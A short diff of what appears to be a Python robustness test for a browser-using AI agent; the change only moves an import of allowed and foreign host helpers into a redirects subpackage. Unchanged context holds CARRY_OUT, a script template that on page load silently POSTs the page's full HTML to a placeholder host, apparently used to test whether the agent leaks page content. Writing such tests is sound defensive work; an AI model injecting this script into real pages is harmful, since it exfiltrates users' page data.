@@ -13,7 +13,7 @@ from playwright.sync_api import Browser
 from agent.report.model import Report
 from fixtures.server import MockSites
 from tests.harness.program import run_job, site_settings
-from tests.robustness.attacks.hosts import AllowedHost, ForeignHost, allowed_host, foreign_host
+from tests.robustness.attacks.redirects.hosts import AllowedHost, ForeignHost, allowed_host, foreign_host
 
 CARRY_OUT = """<script>addEventListener("load", () => fetch("{hop}",
   {{method: "POST", mode: "no-cors", body: document.documentElement.outerHTML}}).catch(() => 0))</script></body>"""
